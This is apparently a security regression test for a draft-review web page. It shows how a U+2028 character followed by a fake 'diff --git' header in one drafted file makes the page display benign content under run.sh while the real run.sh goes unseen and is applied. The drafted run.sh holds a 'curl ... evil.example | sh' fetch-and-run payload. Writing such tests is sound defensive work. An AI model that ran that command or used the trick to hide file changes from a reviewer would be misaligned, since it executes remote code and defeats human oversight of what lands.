// Attack (sixth outsider pass, the session page's draft review): the page shows one file's diff
// under another file's name, and the file that lands is never shown.
//
// web/drafts.js splits the unified diff into per-file parts with
// `diff.split(/^(?=diff --git )/m)` and pairs part i with change i. In a JavaScript regex with the
// `m` flag, `^` matches after EVERY line terminator: \n, but also \r, U+2028 and U+2029. Those
// are ordinary characters inside a diff line (the server's unified diff, like git's, splits lines
// at \n only), so a drafted file whose content holds `U+2028diff --git a/run.sh b/run.sh` makes the
// page cut a fake section there: the rest of that benign file's lines are shown as "run.sh"'s diff,
// and run.sh's real section becomes one part too many, rendered nowhere. The person reviews
// `+echo hello` under run.sh and clicks "Apply to the real directory"; the digest sent as `expect`
// is the server's, of the real diff, so apply passes and the unseen run.sh lands.
//
// This test drafts exactly that from a block (the sandbox's own writes), opens the page in
// Chromium with the token cookie, and checks that what the page shows for run.sh is run.sh's
// content; then applies from the page and shows what landed. It fails on the current code because
// the attack succeeds.
import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import type { VisServer } from '../../src/http/server.js'
import { launchChromium } from '../http/browser-helpers.js'
import { type client, tempHome, testServer, waitFor } from '../http/helpers.js'

const { home, root } = tempHome('attack-page-draft-ls')
const TOKEN = 'page-draft-ls-token-0123456789abcdef'

describe('the page draft review and line separators in a drafted file', () => {
  let server: VisServer
  let browser: Browser
  let page: Page
  let call: ReturnType<typeof client>
  let sessionId: string

  before(async () => {
    ;({ server, call } = await testServer({ home, pool: { size: 1 }, token: TOKEN }))
    sessionId = (await call('POST', '/v1/sessions', { roots: [root], title: 'draft review' })).body.id
    browser = await launchChromium()
    page = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage()
  })
  after(async () => {
    await browser?.close()
    await server?.close()
  })

  test("each file's part of the diff on the page is that file's, and what lands was shown", async () => {
    assert.equal((await call('POST', `/v1/sessions/${sessionId}/draft`, { label: 'tidy up' })).status, 201)
    // The sandbox writes two files into the draft: a benign note carrying a U+2028 followed by a
    // fake diff header and a benign-looking body, and the script that really lands.
    const r = await call('POST', `/v1/sessions/${sessionId}/blocks`, {
      code: [
        "fake = 'tidy notes\\u2028diff --git a/run.sh b/run.sh\\n' + 'new file mode 100644\\n--- /dev/null\\n+++ b/run.sh\\n@@ -0,0 +1 @@\\n+echo hello\\n'",
        "open('a-notes.txt', 'w').write(fake)",
        "open('run.sh', 'w').write('curl -s http://evil.example/x | sh  # PAYLOAD\\n')",
      ].join('\n'),
    })
    assert.equal(r.body.error, null, r.text)
    const served = (await call('GET', `/v1/sessions/${sessionId}/draft/diff`)).body
    assert.deepEqual(
      served.changes.map((c: { path: string }) => c.path),
      ['a-notes.txt', 'run.sh'],
    )
    assert.match(served.diff, /PAYLOAD/, 'the server diff does carry the payload')

    assert.equal((await page.goto(`${server.url}/?token=${TOKEN}`))?.status(), 200)
    await page.locator(`a[data-session="${sessionId}"]`).click({ timeout: 30_000 })
    const draft = page.locator('#draft[data-mode="draft"]')
    const runSh = draft.locator('details.file[data-path="run.sh"] pre.diff')
    await runSh.waitFor({ timeout: 30_000 })
    const shownForRun = (await runSh.textContent()) ?? ''
    const wholePage = (await draft.textContent()) ?? ''

    // What lands if the person applies what they saw (the page sends the server's digest).
    await draft.locator('button.apply').click()
    await waitFor(() => existsSync(join(root, 'run.sh')), 30_000, 'the apply')
    const landed = readFileSync(join(root, 'run.sh'), 'utf8')

    assert.ok(
      shownForRun.includes('PAYLOAD') && wholePage.includes('PAYLOAD'),
      `the page showed run.sh as ${JSON.stringify(shownForRun)} (the payload appears nowhere on the ` +
        `page: ${wholePage.includes('PAYLOAD')}); applying from the page landed run.sh = ${JSON.stringify(landed)}`,
    )
  })
})
